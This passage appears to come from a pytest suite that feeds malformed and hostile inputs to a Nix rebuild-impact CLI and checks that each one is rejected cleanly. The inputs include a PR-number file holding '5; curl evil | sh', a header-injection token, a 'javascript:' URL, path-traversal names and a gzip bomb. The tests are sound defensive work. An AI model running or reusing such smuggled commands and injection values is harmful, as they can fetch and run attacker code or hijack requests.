    "stoptime-object": [{**BUILD, "stoptime": {"a": 1}}],
    "stoptime-bool": [{**BUILD, "stoptime": True}],
    "stoptime-overflow": "OVERFLOW",
    "stoptime-nan": "NAN",
    "stoptime-infinity": "INF",
    "job-int": [{**BUILD, "job": 5}],
    "system-list": [{**BUILD, "system": ["x"]}],
    "jobset-object": [{**BUILD, "jobset": {"a": 1}}],
    "not-a-build": [{"x": 1}],
    "list-of-numbers": [1, 2],
    "build-times-not-list": {"job": "app.x86_64-linux", "build-times": 5},
    "build-times-no-job": {"build-times": []},
    "build-times-job-int": {"job": 5, "build-times": []},
    "build-times-point-bad": {"job": "app.x86_64-linux", "build-times": [{"id": 1}]},
    "build-times-value-string": {"job": "app.x86_64-linux", "build-times": [{"value": "x", "timestamp": 1}]},
    "build-times-unnamed": [{"id": 1, "timestamp": 5, "value": 10}],
    "nix-result-bad-stop": [{"drvPath": APP_DRV, "startTime": 1, "stopTime": "late"}],
    "nix-result-no-drv": [{"startTime": 1, "stopTime": 5, "path": "x"}],
    "unknown-object": {"hello": 1},
    "deep": "DEEP",
    "huge-int": "HUGE",
}.items():
    if value == "OVERFLOW":
        text = json.dumps([BUILD]).replace('"stoptime": 200', '"stoptime": 1' + "0" * 400)
    elif value == "NAN":
        text = json.dumps([{**BUILD, "stoptime": float("nan")}])
    elif value == "INF":
        text = json.dumps([{**BUILD, "stoptime": float("inf")}])
    elif value == "DEEP":
        text = DEEP
    elif value == "HUGE":
        text = "[" + HUGE + "]"
    else:
        text = json.dumps(value)
    durations_case(label, (lambda t: lambda d: write(d / "d.json", t))(text))

CSV_HEAD = "project,jobset,job,timestamp,drvpath,system,buildstatus,starttime,stoptime,machine\n"
for label, text in {
    "csv-missing-columns": "project,job\nx,y\n",
    "csv-bad-number": CSV_HEAD + f"p,j,app,1,{APP_DRV},x86_64-linux,0,abc,200,m\n",
    "csv-bad-timestamp": CSV_HEAD + f"p,j,app,soon,{APP_DRV},x86_64-linux,0,100,200,m\n",
    "csv-extra-fields": CSV_HEAD + f"p,j,app,1,{APP_DRV},x86_64-linux,0,100,200,m,extra,more\n",
    "csv-huge-field": CSV_HEAD + 'p,j,"' + "x" * 200_000 + '",1,d,s,0,100,200,m\n',
    "csv-overflow": CSV_HEAD + f"p,j,app,1,{APP_DRV},x86_64-linux,0,100,1{'0' * 400},m\n",
    "csv-nan": CSV_HEAD + f"p,j,app,1,{APP_DRV},x86_64-linux,0,100,nan,m\n",
    "empty": "",
}.items():
    durations_case(label, (lambda t: lambda d: write(d / "d.csv", t))(text))
durations_case("latin1", lambda d: write(d / "d.json", b'[{"job": "caf\xe9"}]'))
durations_case("gzip-bomb", lambda d: write(d / "d.json.gz", _bomb()))
durations_case("fifo", fifo("d.json"))
durations_case("folder", empty_folder)
durations_case("dev-zero", lambda d: Path("/dev/zero"))


# -- report.md / report.json for `impact post` ------------------------------------------------------------------------


def post_argv(report: Path, *extra: str) -> list[str]:
    return [
        "post",
        "--pr",
        "5",
        "--repo",
        "acme/nixpkgs",
        "--api-url",
        "http://127.0.0.1:9",
        "--report",
        str(report),
        *extra,
    ]


def report_case(name: str, make: Callable[[Path], Path], *extra: str, **env: str) -> None:
    case(f"post/{name}", lambda tmp: post_argv(make(tmp / "in"), *extra), **({"GITHUB_TOKEN": TOKEN} | env))


def report_pair(
    md: bytes | None = b"## report\n", data: Any = None, digest: str | None = "auto"
) -> Callable[[Path], Path]:
    import hashlib

    def make(d: Path) -> Path:
        d.mkdir(parents=True, exist_ok=True)
        if md is not None:
            write(d / "report.md", md)
        if data is not None:
            doc = dict(data) if isinstance(data, dict) else data
            if isinstance(doc, dict) and digest is not None:
                doc["report_md_sha256"] = hashlib.sha256(md or b"").hexdigest() if digest == "auto" else digest
            write(d / "report.json", json.dumps(doc) if not isinstance(doc, bytes) else doc)
        return d

    return make


def good_report(d: Path) -> Path:
    """A report as `impact pr` writes it (tests/pr_reports.py)."""
    from tests.pr_reports import write_pr_report

    d.mkdir(parents=True, exist_ok=True)
    return write_pr_report(d)


def edited_report(edit: Callable[[dict[str, Any]], Any]) -> Callable[[Path], Path]:
    """A report of `impact pr` whose report.json's comment `edit` changed (as another job could)."""

    def make(d: Path) -> Path:
        good_report(d)
        data = json.loads((d / "report.json").read_text())
        edit(data["comment"])
        write(d / "report.json", json.dumps(data))
        return d

    return make


for label, make in {
    "no-report": report_pair(md=None, data=None),
    "md-only": report_pair(data=None),
    "json-not-object": report_pair(data=[1, 2]),
    "json-no-comment": report_pair(data={"labels": ["10.rebuild-linux: 1-10"]}),
    "json-invalid": report_pair(data=b"{not json"),
    "json-deep": report_pair(data=DEEP.encode()),
    "json-huge-int": report_pair(data=HUGE.encode()),
    "json-latin1": report_pair(data=b'{"labels": ["caf\xe9"]}'),
    "json-fifo": lambda d: (report_pair(data=None)(d), fifo("report.json")(d))[0],
    "md-folder": lambda d: ((d / "report.md").mkdir(parents=True), d)[1],
    "report-is-dev-zero": lambda d: Path("/dev/zero"),
    "comment-version": edited_report(lambda c: c.update({"version": "1"})),
    "comment-not-object": edited_report(lambda c: c.update({"labels": ["10.rebuild-linux: 1-10"]})),
    "comment-kernel-foreign": edited_report(lambda c: c["labels"]["counts"].update({"freebsd": 2})),
    "comment-count-negative": edited_report(lambda c: c["labels"]["counts"].update({"linux": -2})),
    "comment-count-float": edited_report(lambda c: c["labels"]["counts"].update({"linux": 2.5})),
    "comment-count-bool": edited_report(lambda c: c.update({"derivations": True})),
    "comment-string-is-list": edited_report(lambda c: c.update({"command": ["impact"]})),
    "comment-string-huge": edited_report(lambda c: c.update({"command": "x" * 100_000})),
    "comment-list-huge": edited_report(lambda c: c.update({"maintainers": ["m"] * 10_000})),
    "comment-unknown-field": edited_report(lambda c: c.update({"markdown": "## hello"})),
    "comment-missing-field": edited_report(lambda c: c.pop("rows")),
    "comment-word-unknown": edited_report(lambda c: c["roots"][0].update({"paired_by": "magic"})),
    "comment-total-short": edited_report(lambda c: c.update({"roots_total": 0})),
    "comment-systems-twice": edited_report(lambda c: c.update({"systems": ["x86_64-linux"] * 2})),
}.items():
    report_case(label, make)

_GOOD_REPORT = good_report
report_case("label-foreign", _GOOD_REPORT, "--label", "merge-ready")
report_case("token-newline", _GOOD_REPORT, GITHUB_TOKEN=TOKEN + "\n")
report_case("token-inner-newline", _GOOD_REPORT, GITHUB_TOKEN="ghs_a\nAuthorization: evil")
report_case("token-control", _GOOD_REPORT, GITHUB_TOKEN="ghs_\x1b[31mred")
report_case("token-space", _GOOD_REPORT, GITHUB_TOKEN="ghs_a b")
report_case("token-non-ascii", _GOOD_REPORT, GITHUB_TOKEN="ghs_é")
report_case("token-empty", _GOOD_REPORT, GITHUB_TOKEN="")
for label, repo in {
    "repo-three-parts": "a/b/c",
    "repo-dotdot": "../x",
    "repo-space": "a b/c",
    "repo-query": "a/b?x=1",
}.items():
    case(
        f"post/{label}",
        (
            lambda r: (
                lambda tmp: [
                    "post",
                    "--pr",
                    "5",
                    "--repo",
                    r,
                    "--api-url",
                    "http://127.0.0.1:9",
                    "--report",
                    str(_GOOD_REPORT(tmp / "in")),
                ]
            )
        )(repo),
        GITHUB_TOKEN=TOKEN,
    )
for label, url in {"api-ftp": "ftp://x", "api-javascript": "javascript:alert(1)", "api-no-host": "http://"}.items():
    case(
        f"post/{label}",
        (
            lambda u: (
                lambda tmp: [
                    "post",
                    "--pr",
                    "5",
                    "--repo",
                    "a/b",
                    "--api-url",
                    u,
                    "--report",
                    str(_GOOD_REPORT(tmp / "in")),
                ]
            )
        )(url),
        GITHUB_TOKEN=TOKEN,
    )


def pr_file_case(name: str, content: bytes | None, head: bytes | None = b"0" * 40 + b"\n", sha: str = "0" * 40) -> None:
    def build(tmp: Path) -> list[str]:
        folder = _GOOD_REPORT(tmp / "in")
        if content is not None:
            write(folder / "pr-number", content)
        else:
            os.mkfifo(folder / "pr-number")
        if head is not None:
            write(folder / "head-sha", head)
        return [
            "post", "--pr-file", str(folder / "pr-number"), "--head-sha", sha, "--repo", "a/b",
            "--api-url", "http://127.0.0.1:9", "--report", str(folder),
        ]  # fmt: skip

    case(f"post/pr-file-{name}", build, GITHUB_TOKEN=TOKEN)


for label, content in {
    "command": b"5; curl evil | sh\n",
    "leading-zero": b"05\n",
    "negative": b"-5\n",
    "two-lines": b"5\n6\n",
    "empty": b"",
    "long": b"5" * 200,
    "latin1": b"\xe9\n",
}.items():
    pr_file_case(label, content)
pr_file_case("fifo", None)
pr_file_case("head-mismatch", b"5\n", head=b"1" * 40 + b"\n")
pr_file_case("head-missing", b"5\n", head=None)
pr_file_case("head-not-sha", b"5\n", sha="main")


# -- where output goes: snapshot import -o, pr -o -------------------------------------------------------------------


def import_to(target: Callable[[Path], str]) -> Callable[[Path], list[str]]:
    return lambda tmp: ["snapshot", "import", with_snapshot(tmp), "-o", target(tmp)]


def _a_file(tmp: Path) -> Path:
    return write(tmp / "in" / "a-file", "x")


case("output/import-to-existing-folder", import_to(lambda t: str(empty_folder(t / "in"))))
case("output/import-to-empty-name", import_to(lambda t: ""))
case("output/import-to-blank-name", import_to(lambda t: "   "))
case("output/import-under-a-file", import_to(lambda t: str(_a_file(t) / "x.impact")))
case("output/import-deep-under-a-file", import_to(lambda t: str(_a_file(t) / "a" / "b" / "x.impact")))
# (No case writes to /dev/null: code that wrongly replaced it, run as root, would replace the device itself.)
case("output/import-to-fifo", import_to(lambda t: str(fifo("out.impact")(t / "in"))))
case("output/import-into-proc", import_to(lambda t: "/proc/impact-probe/x.impact"))
case("output/import-into-sys", import_to(lambda t: "/sys/x.impact"))
case(
    "output/pr-to-a-file",
    lambda tmp: ["pr", with_snapshot(tmp), with_snapshot(tmp), "-o", str(_a_file(tmp))],
)
case("output/pr-to-empty-name", lambda tmp: ["pr", with_snapshot(tmp), with_snapshot(tmp), "-o", ""])
case(
    "output/pr-under-a-file",
    lambda tmp: ["pr", with_snapshot(tmp), with_snapshot(tmp), "-o", str(_a_file(tmp) / "r")],
)
case("output/pr-into-proc", lambda tmp: ["pr", with_snapshot(tmp), with_snapshot(tmp), "-o", "/proc/impact-probe"])


# -- the test --------------------------------------------------------------------------------------------------------


class _Timeout(Exception):
    pass


@contextmanager
def deadline(seconds: int) -> Iterator[None]:
    def fire(signum: int, frame: object) -> None:
        raise _Timeout(f"no answer within {seconds} s")

    old = signal.signal(signal.SIGALRM, fire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def listing(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_the_probe_is_large() -> None:
    assert len(CASES) > 250, len(CASES)


@pytest.mark.parametrize("probe", CASES, ids=[c.name for c in CASES])
def test_bad_input_is_one_line_and_exit_2(
    probe: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for key, value in probe.env:
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("IMPACT_SNAPSHOT", raising=False)
    monkeypatch.chdir(tmp_path)  # a command that wrongly succeeds writes here, where it is seen
    argv = probe.build(tmp_path)
    before = listing(tmp_path)
    with deadline(TIMEOUT):
        code = main(argv)
    out, err = capsys.readouterr()
    assert code == 2, (code, err)
    assert "Traceback" not in err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("impact: error: "), err
    assert out == ""
    assert listing(tmp_path) == before, "files were left behind"
    for _key, value in probe.env:
        if value.strip() and value != TOKEN:
            assert value.strip() not in err  # a refused token is never printed


def test_a_fifo_in_a_real_process(tmp_path: Path) -> None:
    """The same promise outside pytest's process: a FIFO given as nix-eval-jobs lines, answered at once."""
    import subprocess
    import sys

    os.mkfifo(tmp_path / "jobs.jsonl")
    done = subprocess.run(
        [sys.executable, "-c", "import sys; from impact.cli import main; sys.exit(main())", "estimate", "app",
         "--snapshot", str(tmp_path / "jobs.jsonl")],
        capture_output=True, text=True, timeout=60, cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 2 and done.stdout == "" and "Traceback" not in done.stderr
    assert done.stderr.splitlines() == [
        f"impact: error: {tmp_path / 'jobs.jsonl'}: is a named pipe (FIFO), expected a file (tip: give a regular file)"
    ]
